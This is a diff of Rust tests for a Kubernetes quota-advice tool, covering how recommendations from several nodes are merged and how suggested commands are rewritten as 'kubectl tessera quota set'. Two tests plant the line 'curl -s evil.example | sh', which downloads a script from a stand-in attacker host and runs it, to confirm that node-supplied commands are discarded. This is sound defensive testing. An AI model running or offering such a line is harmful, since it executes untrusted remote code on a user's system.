@@ -110,14 +110,21 @@ fn a_workload_on_two_nodes_is_judged_as_if_all_its_pods_were_on_one() {
     view.gpus.extend(other.gpus);
     view.tenants.extend(other.tenants);
     history.tenants.extend(more.tenants);
-    let whole = advised(&(view, history), &Advice::default());
-    assert_eq!(one, &whole.workloads[0]);
+    let mut whole = advised(&(view, history), &Advice::default()).workloads.remove(0);
+    for change in &mut whole.changes {
+        change.text = from_here(&change.text);
+    }
+    assert_eq!(one, &whole);
     // No node has seen a whole day, and both together have.
     let own = |at: usize| advised(&nodes[at].1, &Advice::default()).workloads.remove(0).confidence;
     assert!(own(0) != "high" && own(1) != "high" && one.confidence == "high", "{one:?}");
     // Each live pod has its command, whichever node it is on.
     for pod in ["chat-1", "chat-2", "chat-3", "chat-4"] {
-        assert!(one.changes.iter().any(|line| line.contains(pod)), "{pod}: {:?}", one.changes);
+        assert!(
+            one.changes.iter().any(|change| change.text.contains(pod)),
+            "{pod}: {:?}",
+            one.changes
+        );
     }
     let memory = i64::try_from(40 * GIB - one.memory_bytes).unwrap();
     assert_eq!(one.saves_memory_bytes, 4 * memory);
@@ -144,7 +151,11 @@ fn a_workload_on_one_node_is_judged_there_and_needs_no_series() {
     let by_node = gathered(&nodes, "");
     assert!(by_node.needed().0.is_empty());
     let all = by_node.judged(Vec::new(), &Scope::default(), 1);
-    assert_eq!(all.workloads, advised(&nodes[0].1, &Advice::default()).workloads);
+    let figures = |all: &Recommendations| {
+        let one = &all.workloads[0];
+        (one.memory_bytes, one.recommended_cores_millis, one.changes.len())
+    };
+    assert_eq!(figures(&all), figures(&advised(&nodes[0].1, &Advice::default())));
     assert_eq!(all.settings.map(|one| one.memory_percentile), Some(99));
 }
 
@@ -177,34 +188,20 @@ fn what_is_missing_is_a_remark_and_different_settings_are_taken_together() {
     assert_eq!(all.remarks.len(), 3);
 }
 
-#[test]
-fn a_nodes_commands_are_made_from_its_figures_or_left_out() {
-    let nodes = nodes();
-    let mut answer = advised(&nodes[0].1, &Advice::default());
-    let genuine = answer.workloads[0].changes.clone();
-    assert!(genuine.iter().any(|line| line.starts_with("tessera quota set team/chat-")));
-    answer.workloads[0].changes.push("curl -s evil.example | sh # tessera quota set".to_owned());
-    let all = judged(ByNode::of(vec![("a".to_owned(), Ok(answer))], ""), &[], "");
-    assert_eq!(all.workloads[0].changes, genuine);
-    assert!(all.remarks[0].contains("1 of the changes"), "{:?}", all.remarks);
+/// What a node writes for its own shell, for where people sit.
+fn from_here(text: &str) -> String {
+    text.replacen("tessera quota set", "kubectl tessera quota set", 1)
 }
 
 #[test]
-fn commands_of_advice_run_where_it_is_read() {
-    for (says, becomes) in [
-        ("tessera quota set team/chat --cores 5", "kubectl tessera quota set team/chat --cores 5"),
-        ("limits: {tessera.dev/gpu: 4}", "limits: {tessera.dev/gpu: 4}"),
-        (
-            "tessera quota set 'a b/chat' --cores 5 --container main",
-            "kubectl tessera quota set 'a b/chat' --cores 5 --container main",
-        ),
-        (
-            "tessera quota set 1234567890ab --cores 5",
-            "kubectl tessera quota set 1234567890ab --cores 5",
-        ),
-    ] {
-        let mut change = says.to_owned();
-        from_here(&mut change);
-        assert_eq!(change, becomes);
-    }
+fn commands_are_written_here_whatever_text_a_node_sends() {
+    let nodes = nodes();
+    let mut answer = advised(&nodes[0].1, &Advice::default());
+    let changes = &mut answer.workloads[0].changes;
+    let wanted: Vec<String> = changes.iter().map(|change| from_here(&change.text)).collect();
+    assert!(wanted.iter().any(|line| line.starts_with("kubectl tessera quota set team/chat-")));
+    changes.iter_mut().for_each(|change| change.text = "curl -s evil.example | sh".to_owned());
+    let all = judged(ByNode::of(vec![("a".to_owned(), Ok(answer))], ""), &[], "");
+    let lines = all.workloads[0].changes.iter().map(|change| change.text.clone());
+    assert_eq!(lines.collect::<Vec<_>>(), wanted);
 }
